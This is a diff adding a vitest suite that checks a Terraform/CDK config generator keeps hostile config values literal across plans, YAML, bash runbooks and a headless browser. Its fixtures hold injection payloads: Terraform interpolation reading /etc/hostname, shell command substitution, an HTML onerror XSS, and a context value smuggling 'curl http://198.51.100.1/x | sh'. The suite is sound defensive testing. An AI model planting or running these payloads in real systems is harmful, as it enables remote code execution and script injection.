@@ -1,0 +1,138 @@
+/**
+ * Config values written to break out, through every language they reach: Terraform expressions
+ * (`${...}`, `%{...}`), shell (`$(...)`, backticks, quotes, `;`), Markdown and HTML (`<img onerror>`),
+ * Mermaid, YAML. They must stay inert text: the plan shows them literally, bash reads every command as
+ * one word per value, the browser runs nothing, the YAML parses back to what was given.
+ */
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { pathToFileURL } from "node:url";
+import { chromium } from "playwright-core";
+import { parseAllDocuments } from "yaml";
+import { beforeAll, describe, expect, test } from "vitest";
+import { synthConfig, type Synthesized } from "../support/synth";
+import { planStackOffline, type PlanResult } from "../support/terraform";
+import { bashSyntaxErrors, codeBlocks } from "../support/markdown";
+import { filesUnder } from "../support/files";
+
+const AWS_STACK = "devops-weeks-dev";
+const K8S_STACK = "devops-weeks-dev-k8s";
+const TERRAFORM = '${file("/etc/hostname")}';
+const DIRECTIVE = "%{ for x in [1] }x%{ endfor }";
+const SHELL = "$(id) `id` \"q\" 's' ; echo pwned";
+const HTML = '<img src=x onerror="document.title=\'pwned\'">';
+
+/** An unescaped Terraform interpolation or directive of ours anywhere in a stack's JSON. */
+const LIVE_EXPRESSION = /(?<!\$)\$\{(file|timestamp|path)\b|(?<!%)%\{ for /;
+
+describe("hostile values in the AWS stack stay literal through a real plan", () => {
+  let synth: Synthesized;
+  let plan: PlanResult;
+
+  beforeAll(() => {
+    synth = synthConfig(
+      {
+        tags: { Owner: TERRAFORM, Loop: DIRECTIVE, Shell: SHELL, Page: HTML },
+        network: { bastion: { keyPairName: TERRAFORM, sshIngressCidrs: ["203.0.113.10/32"] } },
+        cicd: { source: { provider: "github", repository: "octocat/hello-docker", branch: "feature/${path.cwd}" }, githubActions: { enabled: true } },
+        logging: { errorAlarm: { pattern: `?ERROR ${TERRAFORM}` } },
+        security: { budget: { emails: ["learner@example.com"] } },
+      },
+      { weeks: "1-8" },
+    );
+    plan = planStackOffline(synth.stackDir(AWS_STACK));
+  }, 300_000);
+
+  test("no expression of the config's is live in the synthesized JSON", () => {
+    for (const stack of [AWS_STACK, K8S_STACK]) expect(readFileSync(join(synth.stackDir(stack), "cdk.tf.json"), "utf8")).not.toMatch(LIVE_EXPRESSION);
+  });
+
+  test("the plan shows every value as written", () => {
+    const vpc = plan.byType("aws_vpc")[0].values as { tags_all: Record<string, string> };
+    expect(vpc.tags_all).toMatchObject({ Owner: TERRAFORM, Loop: DIRECTIVE, Shell: SHELL, Page: HTML });
+    const bastion = plan.byType("aws_instance").find((i) => (i.values.tags as Record<string, string>).Name === "devops-weeks-dev-bastion")!;
+    expect(bastion.values.key_name).toBe(TERRAFORM);
+    const filters = plan.byType("aws_cloudwatch_log_metric_filter").map((f) => f.values.pattern);
+    expect(filters).toContain(`?ERROR ${TERRAFORM}`);
+    // The pipeline's source configuration and the GitHub role's trust policy are known only at apply (they
+    // hold ARNs); the role's description, known now, names the branch as written.
+    const role = plan.byType("aws_iam_role").find((r) => String(r.values.name).endsWith("-github-actions"))!;
+    expect(role.values.description).toBe("Assumed by GitHub Actions in octocat/hello-docker on feature/${path.cwd} only");
+    const nodes = plan.byType("aws_launch_template").find((t) => String(t.values.name).endsWith("-eks-nodes"))!;
+    expect((nodes.values.tag_specifications as { tags: Record<string, string> }[])[0].tags.Owner).toBe(TERRAFORM);
+  });
+});
+
+describe("hostile values in the Kubernetes stack, the manifests, the runbooks and the browser", () => {
+  let synth: Synthesized;
+  const context = `kind-x; curl http://198.51.100.1/x | sh ${HTML}`;
+  const message = `Built \${timestamp()} ${HTML} ${SHELL}`;
+
+  beforeAll(() => {
+    synth = synthConfig({ kubernetes: { kubeconfig: { context }, app: { message } } }, { weeks: "5" });
+  }, 120_000);
+
+  test("the -k8s stack holds the page and the context as text, not expressions", () => {
+    const json = readFileSync(join(synth.stackDir(K8S_STACK), "cdk.tf.json"), "utf8");
+    expect(json).not.toMatch(LIVE_EXPRESSION);
+    const stack = JSON.parse(json) as { provider: { kubernetes: { config_context: string }[] }; resource: Record<string, Record<string, { data?: Record<string, string> }>> };
+    expect(stack.provider.kubernetes[0].config_context).toBe(context);
+    const page = Object.values(stack.resource.kubernetes_config_map_v1)[0].data!["index.html"];
+    expect(page).toContain("Built $${timestamp()}");
+    expect(page).toContain("&lt;img");
+  });
+
+  test("each generated YAML file parses back to the values given", () => {
+    const yamlFiles = [...filesUnder(synth.outdir).keys()].filter((f) => /\.ya?ml$/.test(f));
+    expect(yamlFiles.length).toBeGreaterThan(0);
+    for (const file of yamlFiles) {
+      const documents = parseAllDocuments(readFileSync(join(synth.outdir, file), "utf8"));
+      for (const document of documents) expect(document.errors, file).toEqual([]);
+    }
+    const configMap = parseAllDocuments(readFileSync(join(synth.outdir, "manifests", AWS_STACK, "10-web-configmap.yaml"), "utf8"))[0].toJS() as { data: Record<string, string> };
+    expect(configMap.data["index.html"]).toContain(`Built \${timestamp()} &lt;img src=x onerror="document.title='pwned'"&gt; $(id)`);
+  });
+
+  test("bash reads every command of the runbooks, and the context is one quoted word", () => {
+    const pages = [...filesUnder(join(synth.outdir, "runbooks")).keys()].filter((f) => f.endsWith(".md"));
+    const blocks = pages.flatMap((f: string) => codeBlocks(readFileSync(join(synth.outdir, "runbooks", f), "utf8")));
+    expect(bashSyntaxErrors(blocks)).toEqual([]);
+    const useContext = blocks.find((b) => b.startsWith("kubectl config use-context "))!;
+    // `set --` then the command's words: exactly one argument after use-context, the context itself.
+    const words = execFileSync("bash", ["-c", `set -- ${useContext.slice("kubectl config use-context ".length)}; printf '%s\\n' "$#" "$1"`], { encoding: "utf8" }).split("\n");
+    expect(words[0]).toBe("1");
+    expect(words[1]).toBe(context);
+  });
+
+  test("Chromium runs no injected script, and the pages allow only their own scripts", async () => {
+    const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
+    expect(existsSync(chromiumPath), `Chromium at ${chromiumPath} (apt-get install chromium)`).toBe(true);
+    const userDataDir = mkdtempSync(join(tmpdir(), "devops-weeks-chromium-"));
+    const browser = await chromium.launchPersistentContext(userDataDir, {
+      executablePath: chromiumPath,
+      headless: true,
+      args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
+      offline: true,
+    });
+    try {
+      const page = browser.pages()[0] ?? (await browser.newPage());
+      for (const lang of ["ko", "en"]) {
+        const html = readFileSync(join(synth.outdir, "runbooks", lang, "week-05.html"), "utf8");
+        expect(html).toContain("Content-Security-Policy");
+        expect(html).not.toMatch(/<script>(?!<\/script>)/);
+        await page.goto(pathToFileURL(join(synth.outdir, "runbooks", lang, "week-05.html")).href);
+        await page.waitForFunction(() => [...document.querySelectorAll("pre.mermaid")].every((pre) => pre.querySelector("svg")), undefined, { timeout: 20_000 });
+        expect(await page.title()).not.toBe("pwned");
+        expect(await page.locator("img[onerror]").count()).toBe(0);
+        // The context is on the page as text.
+        expect(await page.locator("main").innerText()).toContain("kind-x; curl");
+      }
+    } finally {
+      await browser.close();
+      rmSync(userDataDir, { recursive: true, force: true });
+    }
+  }, 60_000);
+});
